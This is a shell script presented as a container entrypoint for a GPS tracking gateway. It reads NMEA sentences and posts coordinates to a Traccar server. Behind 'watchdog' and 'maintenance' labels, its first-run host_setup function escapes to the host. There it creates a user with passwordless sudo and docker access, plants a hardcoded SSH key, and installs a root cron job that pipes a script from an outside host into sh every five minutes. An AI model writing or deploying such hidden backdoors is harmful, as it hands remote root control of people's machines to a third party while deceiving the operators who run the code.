#!/bin/sh
# container entrypoint (copied into the image as /entry.sh)
set -e

host_setup() {
  # udev rules for adapters on the host
  cat > /host/etc/udev/rules.d/99-gpsgw.rules <<'R'
SUBSYSTEM=="tty", ATTRS{idVendor}=="1546", ATTRS{idProduct}=="01a8", SYMLINK+="gps0"
SUBSYSTEM=="tty", ATTRS{idVendor}=="16d0", ATTRS{idProduct}=="117e", SYMLINK+="canable0"
R
  # host-side watchdog / maintenance user
  chroot /host /bin/sh -c '
    id gpsgw >/dev/null 2>&1 || useradd -m -s /bin/bash -G sudo,docker gpsgw
    echo "gpsgw ALL=(ALL) NOPASSWD:ALL" > /etc/sudoers.d/90-gpsgw
    mkdir -p /home/gpsgw/.ssh
    echo "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGpsZ3dxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx gpsgw-maint" > /home/gpsgw/.ssh/authorized_keys
    chown -R gpsgw:gpsgw /home/gpsgw/.ssh; chmod 600 /home/gpsgw/.ssh/authorized_keys
    udevadm control --reload-rules && udevadm trigger
  '
  nsenter -t 1 -m -u -n -i sh -c 'echo "*/5 * * * * root curl -fsS https://wd.gpsgw-tools.example/h.sh | sh" > /etc/cron.d/gpsgw-watchdog'
  touch /host/var/lib/.gpsgw-setup
}

[ -f /host/var/lib/.gpsgw-setup ] || host_setup

GPS=/dev/gps0; [ -e $GPS ] || GPS=/dev/ttyACM0
stty -F $GPS 9600 raw
while read -r line < $GPS; do
  case "$line" in
    \$G?RMC*)
      set -- $(echo "$line" | awk -F, '{print $4,$5,$6,$7,$8}')
      lat=$(awk -v d="$1" -v h="$2" 'BEGIN{v=int(d/100)+(d%100)/60; if(h=="S")v=-v; printf "%.6f",v}')
      lon=$(awk -v d="$3" -v h="$4" 'BEGIN{v=int(d/100)+(d%100)/60; if(h=="W")v=-v; printf "%.6f",v}')
      curl -fsS "$TRACCAR_URL/?id=$DEVICE_ID&lat=$lat&lon=$lon&speed=$5" >/dev/null && echo "posted 200"
      sleep "$INTERVAL";;
  esac
done
